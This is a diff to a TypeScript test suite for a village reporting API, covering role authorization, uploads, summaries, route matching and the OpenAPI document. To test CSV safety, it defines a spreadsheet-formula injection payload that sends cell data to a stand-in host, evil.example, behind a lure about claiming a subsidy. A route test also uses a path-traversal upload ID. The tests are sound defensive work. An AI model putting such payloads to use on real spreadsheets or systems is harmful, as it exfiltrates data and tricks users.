@@ -2,84 +2,38 @@
  * The API core (shared/api) with in-memory ports: authorization per route and role, the
  * requests it refuses, CSV safety, ETags, error mapping, and the OpenAPI document.
  */
-import { readFileSync } from 'node:fs';
 import { describe, expect, it, vi } from 'vitest';
 import { handleRequest } from '../../shared/api/app.ts';
-import type { ApiRequest, Caller } from '../../shared/api/http.ts';
+import type { Caller } from '../../shared/api/http.ts';
+import { as, memoryApi, registryDocument, request } from '../support/memory-api.ts';
 import { openApiDocument } from '../../shared/api/openapi.ts';
-import { matchRoute, routeKey, ROUTES, type Route, type RouteName } from '../../shared/api/routes.ts';
+import { matchRoute, routeKey, ROUTES, type Route } from '../../shared/api/routes.ts';
 import { SummaryCache } from '../../shared/api/summary-cache.ts';
 import { ROLES, type Principal } from '../../shared/auth/tokens.ts';
-import type { CurrentSubmission } from '../../shared/ports/ledger.ts';
-import type { ApiDeps, UploadPresigner } from '../../shared/ports/api.ts';
-import type { LatestRevision } from '../../shared/ports/summaries.ts';
+import type { ApiDeps } from '../../shared/ports/api.ts';
 import { summaryKey } from '../../shared/publish/publish.ts';
-import { Registry } from '../../shared/registry.ts';
-import type { UploadIntent, UploadRecord } from '../../shared/uploads.ts';
-import { MemoryTokens } from '../support/memory-tokens.ts';
 
-const UNITS = JSON.parse(readFileSync(new URL('../../config/units.json', import.meta.url), 'utf8')) as {
-  units: { code: string; name: string }[];
-};
+const UNITS = registryDocument('units.json') as { units: { code: string; name: string }[] };
 const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我领补贴")';
 
+/** The single town of round 1 (config/units.json): today's routes mean that town. */
 function world(options: { evilUnit?: boolean } = {}) {
-  const registry = Registry.parse({
+  const api = memoryApi({
     ...UNITS,
     units: UNITS.units.map((u) => (options.evilUnit && u.code === 'V02' ? { ...u, name: EVIL } : u)),
   });
-  const intents: UploadIntent[] = [];
-  const uploads = new Map<string, UploadRecord>();
-  const objects = new Map<string, Uint8Array>();
-  const presigned: Parameters<UploadPresigner['presign']>[0][] = [];
-  const current: CurrentSubmission[] = [];
-  const latest = new Map<string, LatestRevision>();
-  /** Publishes a revision: its immutable object and the archive's pointer to it. */
-  const published = (summary: typeof SUMMARY) => {
-    objects.set(summaryKey('monthly', summary.period, summary.revision), new TextEncoder().encode(JSON.stringify(summary)));
-    latest.set(`monthly/${summary.period}`, { revision: summary.revision, version: summary.version, hash: 'h', emailedRevision: 0 });
-  };
-  const deps: ApiDeps = {
-    ledger: {
-      getUpload: async (id) => uploads.get(id),
-      putIntent: async (intent) => {
-        intents.push(intent);
-        uploads.set(intent.uploadId, { ...intent, status: 'pending' });
-        return true;
-      },
-      currentSubmission: async (unit, period) => current.find((c) => c.unit === unit && c.period === period),
-      history: async (unit, period) => current.filter((c) => c.unit === unit && c.period === period),
-      currentOfMonth: async (period) => current.filter((c) => c.period === period),
-    },
-    store: { get: async (key) => objects.get(key) },
-    summaries: { latest: async (kind, period) => latest.get(`${kind}/${period}`) },
-    presigner: {
-      presign: async (input) => {
-        presigned.push(input);
-        return { url: 'https://bucket.example/', fields: { key: input.key } };
-      },
-    },
-    tokens: new MemoryTokens(),
-    registry: async () => registry,
-    now: () => new Date('2025-04-03T01:00:00Z'),
-    page: () => ({ html: '<!doctype html><title>村报</title>', csp: "default-src 'none'" }),
-  };
-  return { deps, intents, uploads, objects, presigned, current, published };
+  const published = (summary: typeof SUMMARY) => api.publish(summary);
+  return { ...api, published };
 }
 
-function request(name: RouteName, caller: Caller, extra: Partial<Omit<ApiRequest, 'route' | 'caller'>> = {}): ApiRequest {
-  const route = ROUTES.find((r) => r.name === name);
-  if (!route) throw new Error(`no route ${name}`);
-  return { route, pathParameters: {}, query: {}, headers: {}, caller, ...extra };
-}
-
-const as = (principal: Principal): Caller => ({ kind: 'principal', principal });
-const V03: Caller = as({ role: 'village', unit: 'V03' });
+const V03: Caller = as({ role: 'village', unit: 'EC/V03' });
 const DISTRICT: Caller = as({ role: 'district' });
-const TOWN: Caller = as({ role: 'town' });
+const TOWN: Caller = as({ role: 'town', town: 'EC' });
 
 const SUMMARY = {
-  kind: 'monthly',
+  org: 'EC',
+  level: 'town' as const,
+  kind: 'monthly' as const,
   period: '2025-03',
   revision: 2,
   publishedAt: '2025-04-06T00:00:00Z',
@@ -113,6 +67,8 @@ describe('authorization per route', () => {
     month: '2025-03',
     year: '2025',
     unit: 'V03',
+    org: 'EC',
+    town: 'EC',
     uploadId: 'abcdefgh-0001',
     tokenId: '0123456789abcdef',
   };
@@ -124,7 +80,7 @@ describe('authorization per route', () => {
   )('%s refuses role %s with 403 ROLE_FORBIDDEN and a Chinese message', async (_key, role, route: Route) => {
     // Prepare
     const { deps, intents } = world();
-    const principal: Principal = role === 'village' ? { role, unit: 'V03' } : { role };
+    const principal: Principal = role === 'village' ? { role, unit: 'EC/V03' } : role === 'town' ? { role, town: 'EC' } : { role };
     const pathParameters = Object.fromEntries([...route.path.matchAll(/\{(\w+)\}/g)].map((m) => [m[1]!, PARAMS[m[1]!]!]));
 
     // Act
@@ -171,13 +127,13 @@ describe('POST /v1/uploads', () => {
     // Assess
     expect(response.status).toBe(201);
     const body = JSON.parse(response.body) as { uploadId: string; key: string; maxBytes: number };
-    expect(body.key).toBe(`incoming/V03/2025-03/${body.uploadId}.csv`);
+    expect(body.key).toBe(`incoming/EC/V03/2025-03/${body.uploadId}.csv`);
     expect(presigned).toEqual([{ key: body.key, contentType: 'text/csv', maxBytes: 5 * 1024 * 1024, expiresInSeconds: 900 }]);
     expect(intents).toEqual([
       expect.objectContaining({
         uploadId: body.uploadId,
-        uploader: { role: 'village', unit: 'V03' },
-        unit: 'V03',
+        uploader: { role: 'village', unit: 'EC/V03' },
+        unit: 'EC/V03',
         period: '2025-03',
         ext: 'csv',
       }),
@@ -206,7 +162,7 @@ describe('POST /v1/uploads', () => {
     const { deps, intents } = world();
     const response = await create(deps, TOWN, { format: 'json' });
     expect(response.status).toBe(201);
-    expect(intents[0]).toMatchObject({ unit: 'ALL', period: 'unknown', ext: 'json', uploader: { role: 'town' } });
+    expect(intents[0]).toMatchObject({ unit: 'EC/ALL', period: 'unknown', ext: 'json', uploader: { role: 'town', town: 'EC' } });
   });
 });
 
@@ -269,7 +225,7 @@ describe('GET /v1/summaries', () => {
     // Act
     const first = await get();
     const second = await get();
-    objects.delete(summaryKey('monthly', '2025-03', 2));
+    objects.delete(summaryKey('EC', 'monthly', '2025-03', 2));
     const third = await get();
     published({ ...SUMMARY, revision: 3 });
     const corrected = await get();
@@ -323,6 +279,10 @@ describe('routes', () => {
       route: { name: 'submissions' },
       pathParameters: { unit: 'V03', month: '2025-03' },
     });
+    expect(matchRoute('GET', '/v1/orgs/EC/units/V03/submissions/2025-03')).toMatchObject({
+      route: { name: 'orgSubmissions' },
+      pathParameters: { town: 'EC', unit: 'V03', month: '2025-03' },
+    });
     expect(matchRoute('GET', '/v1/uploads/..%2F..%2Fx')?.pathParameters['uploadId']).toBe('../../x');
     expect(matchRoute('GET', '/v1/uploads/a/b')).toBeUndefined();
     expect(matchRoute('PUT', '/v1/uploads')).toBeUndefined();
@@ -349,7 +309,7 @@ describe('OpenAPI document', () => {
       for (const [, name] of route.path.matchAll(/\{(\w+)\}/g)) expect(op?.parameters?.map((p) => p.name)).toContain(name);
     }
     const create = doc.components.schemas['CreateUploadRequest']!;
-    expect(Object.keys(create.properties!)).toEqual(['period', 'unit', 'format', 'size']);
+    expect(Object.keys(create.properties!)).toEqual(['period', 'unit', 'town', 'format', 'size']);
     expect(create.additionalProperties).toBe(false);
     expect(JSON.parse(JSON.stringify(doc))).toEqual(doc);
   });
